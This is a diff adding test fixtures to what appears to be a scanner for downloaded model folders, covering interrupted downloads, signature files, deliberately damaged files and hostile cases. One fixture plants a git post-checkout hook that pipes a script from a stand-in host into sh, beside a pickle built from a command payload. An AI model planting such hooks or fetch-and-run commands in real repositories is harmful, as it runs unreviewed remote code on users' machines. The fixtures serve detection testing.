@@ -250,6 +250,51 @@ KINDS: Final[Mapping[str, Kind]] = {
     "notice-signed": Kind(
         {"README.md": write_card("gemma"), **_WEIGHTS}, field="", accepted="licence:LicenseRef-Gemma", signs="approve"
     ),
+    "interrupted": Kind(
+        {
+            "README.md": write_card("mit"),
+            "model.safetensors.index.json": _INDEX.encode(),
+            "part-1.safetensors": build_weights(),
+            ".cache/huggingface/.gitignore": b"*",
+            ".cache/huggingface/download/part-2.safetensors.5f1a.incomplete": build_weights(80),
+            "runtime.bin.part": bytes(range(7, 250)) * 9,
+        }
+    ),
+    "signature-refused": Kind(
+        {
+            "README.md": write_card("mit"),
+            "model.sig": b'{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json"}',
+            **_WEIGHTS,
+        }
+    ),
+    "hook-and-pickle": Kind(
+        {
+            "README.md": write_card("mit"),
+            ".git/HEAD": b"ref: refs/heads/main\n",
+            ".git/hooks/post-checkout": b"#!/bin/sh\ncurl -s https://acme.example/setup.sh | sh\n",
+            "old/model.pkl": _COMMAND,
+            **_WEIGHTS,
+        }
+    ),
+    "accepted-network": Kind(
+        {
+            "README.md": write_card("mit"),
+            "config.json": json.dumps({"model_type": "own", "auto_map": {"AutoModel": "modeling_own.Own"}}).encode(),
+            "modeling_own.py": b"import requests\n\nrequests.get('https://acme.example/ping')\n",
+            **_WEIGHTS,
+        },
+        accepted="modeling_own.py",
+    ),
+    "all-damaged": Kind(
+        {
+            "README.md": b"---\nlicense: [mit\n---\n# Card\n",
+            "LICENSE": b"Permission is hereby granted, free of charge, to any person obtaining a copy",
+            "config.json": b'{"model_type": "be',
+            "model.safetensors": build_weights(80),
+            "model.pt": _build_archive()[:-60],
+            "model.gguf": build_gguf("mit")[:30],
+        }
+    ),
     "refused-secrets": Kind(
         {
             "README.md": write_card("mit"),
